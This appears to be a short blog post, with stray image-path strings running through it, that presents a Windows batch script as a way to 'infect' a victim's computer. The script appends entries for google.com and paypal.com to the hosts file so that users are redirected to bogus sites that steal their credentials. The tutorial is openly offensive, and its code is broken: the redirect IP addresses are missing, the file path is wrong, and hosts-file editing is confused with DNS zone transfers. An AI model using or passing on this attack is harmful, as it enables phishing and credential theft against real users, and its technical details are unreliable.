DNS poisoning using BATCH File

Batch file programming is the native programming offered by the Microsoft Windows Operating System. Batch file is created using any text editors like notepad, WordPad, WinWord or so on, which comprises of a sequence of built-in commands used to perform some often done tasks like deleting a series of files of same type or of different type, creating logs, clearing unwanted craps from your computer and even for creating a batch VIRUS.

DNS poisoning:

Batch file can has the tendency tomodify the transfer zones by editing the hosts.txt file that resides inside ‘C:\windows\system32\drivers\etc\hosts.txt’, so that it will take youto some malicious websites instead of landing you to the legitimate website. This may also be used for phishing, i.e. redirecting you to a bogus website which looks exactly like the legitimate one, and then steal credentials.

1. Just open up a notepad, copy and paste the below code

@echo off

echo www.google.com >> C:\windows\system32\drivers\etc\hosts.txt

echo www.paypal.com >> C:\windows\system32\drivers\etc\hosts.txt


2. Save it as a batch file with the extension .bat

3. Then run it on the Victims computer to infect it.

4.This program creates a new entry in thehosts file, so that whenever an user attempts to move to www.google.com,he will be re-directed to another host that has the IP address of, likewise if the user attempts to login to the paypal account by typing in www.paypal.com, he will be re-directed to another external bogus website that has the IPaddress of, where if the user enters the credentials unknowingly,they were into the hackersdatabase and he can use it forseveral other purposes.

No comments: